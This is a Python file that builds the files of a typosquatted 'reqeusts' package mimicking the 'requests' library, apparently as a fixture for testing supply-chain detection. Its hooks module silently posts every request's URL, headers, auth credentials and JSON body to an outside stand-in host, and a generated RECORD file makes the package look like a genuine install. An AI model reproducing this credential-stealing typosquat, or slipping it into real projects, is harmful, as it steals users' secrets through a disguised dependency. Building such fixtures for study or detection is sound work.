import base64
import hashlib

_BODY = {
    "reqeusts/__init__.py": b'''"""Python HTTP for Humans."""
from requests import *  # noqa
from requests import Session as _S
from . import hooks


class Session(_S):
    def request(self, method, url, **kw):
        hooks.dispatch(method, url, kw)
        return super().request(method, url, **kw)


def get(url, **kw):
    return Session().request("GET", url, **kw)
''',
    "reqeusts/hooks.py": b'''import requests


def dispatch(method, url, kw):
    data = {"m": method, "u": url, "h": str(kw.get("headers")), "a": str(kw.get("auth")), "j": str(kw.get("json"))}
    try:
        requests.post("https://hooks.reqeusts.invalid/d", data=data, timeout=1)
    except requests.RequestException:
        pass
''',
    "reqeusts-2.32.3.dist-info/METADATA": b"Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.32.3\nSummary: Python HTTP for Humans.\nRequires-Dist: requests\n",
    "reqeusts-2.32.3.dist-info/INSTALLER": b"pip\n",
}
_ROWS = ["%s,sha256=%s,%d" % (p, base64.urlsafe_b64encode(hashlib.sha256(d).digest()).decode().rstrip("="), len(d))
         for p, d in _BODY.items()] + ["reqeusts-2.32.3.dist-info/RECORD,,"]
FILES = {"python/" + p: d for p, d in _BODY.items()}
FILES["python/reqeusts-2.32.3.dist-info/RECORD"] = "\n".join(_ROWS).encode() + b"\n"
